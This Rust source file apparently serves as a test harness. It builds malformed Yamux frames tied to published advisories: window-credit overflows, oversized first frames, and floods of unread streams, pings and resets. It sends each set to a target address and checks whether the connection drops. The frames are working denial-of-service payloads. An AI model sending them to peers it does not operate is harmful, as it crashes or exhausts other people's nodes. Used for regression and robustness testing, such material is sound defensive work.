//! Yamux frames that made implementations panic or hold memory without bound.

use super::raw::Raw;

const DATA: u8 = 0;
const WINDOW_UPDATE: u8 = 1;
const PING: u8 = 2;
const GO_AWAY: u8 = 3;

const SYN: u16 = 1;
const ACK: u16 = 2;
const FIN: u16 = 4;
const RST: u16 = 8;

/// A header: version, type, flags, stream, length.
fn header(version: u8, kind: u8, flags: u16, stream: u32, length: u32) -> Vec<u8> {
    [&[version, kind], &flags.to_be_bytes()[..], &stream.to_be_bytes(), &length.to_be_bytes()].concat()
}

fn frame(kind: u8, flags: u16, stream: u32, length: u32) -> Vec<u8> {
    header(0, kind, flags, stream, length)
}

pub fn data(flags: u16, stream: u32, body: &[u8]) -> Vec<u8> {
    [frame(DATA, flags, stream, u32::try_from(body.len()).unwrap()), body.to_vec()].concat()
}

/// The start of a stream on which ping is asked for.
pub fn ping_please(stream: u32) -> Vec<u8> {
    data(SYN, stream, b"\x13/multistream/1.0.0\n\x11/ipfs/ping/1.0.0\n")
}

/// Each case: what it is called, and its bytes.
pub fn cases() -> Vec<(&'static str, Vec<u8>)> {
    let many = |count: u32, frames: fn(u32) -> Vec<u8>| (0..count).flat_map(|n| frames(2 * n + 1)).collect::<Vec<u8>>();
    vec![
        // GHSA-4w32-2493-32g7, rust-yamux #228: credit past the end of the send window, on our stream and on the victim's.
        ("credit that overflows the window", {
            let credit = |stream| frame(WINDOW_UPDATE, 0, stream, u32::MAX);
            let opened = [ping_please(1), frame(WINDOW_UPDATE, SYN, 3, u32::MAX)].concat();
            [opened, credit(1), credit(1), credit(3), credit(2), credit(2), credit(4), credit(4)].concat()
        }),
        // GHSA-vxx9-2994-q338: the first frame of a stream holds more than the window.
        ("a first frame of 262,145 bytes", data(SYN, 1, &[0; 262_145])),
        ("a first frame of 4 GiB", frame(DATA, SYN, 1, u32::MAX)),
        // GHSA-3999-5ffv-wp2r: streams whose answers are never read; here none of the connection is.
        ("streams whose answers are never read", many(2000, ping_please)),
        ("streams begun and reset", many(20_000, |n| [frame(DATA, SYN, n, 0), frame(DATA, RST, n, 0)].concat())),
        (
            "streams begun with credit and ended",
            many(5000, |n| {
                [frame(WINDOW_UPDATE, SYN, n, u32::MAX), frame(DATA, FIN, n, 0), frame(DATA, FIN, n, 0)].concat()
            }),
        ),
        ("pings whose answers are never read", many(100_000, |n| frame(PING, SYN, 0, n))),
        (
            "frames of streams that never were",
            many(5000, |n| {
                [frame(DATA, ACK, n, 0), frame(WINDOW_UPDATE, ACK | FIN, n, u32::MAX), data(RST, n, b"x")].concat()
            }),
        ),
        ("stream 0 and the last one", {
            let last = u32::MAX;
            [data(SYN, 0, b"x"), frame(WINDOW_UPDATE, SYN, last, last), data(SYN | FIN | RST | ACK, last, b"x")]
                .concat()
        }),
        ("one stream begun twice", [ping_please(1), ping_please(1), frame(WINDOW_UPDATE, SYN, 1, 1)].concat()),
        ("a goodbye of no meaning, and more", {
            [frame(GO_AWAY, 0, 0, u32::MAX), frame(GO_AWAY, SYN, 7, 3), ping_please(1)].concat()
        }),
        ("an unknown version", header(255, DATA, SYN, 1, 0)),
        ("an unknown type", frame(255, SYN, 1, 0)),
        ("every flag there is", frame(WINDOW_UPDATE, u16::MAX, 1, u32::MAX)),
    ]
}

/// Says it, and looks what becomes of the connection; `None` when there is none to be had.
pub async fn play(victim: std::net::SocketAddr, bytes: &[u8]) -> Option<bool> {
    let mut raw = Raw::connect(victim, None).await?;
    raw.write(bytes).await;
    Some(raw.is_closed().await)
}
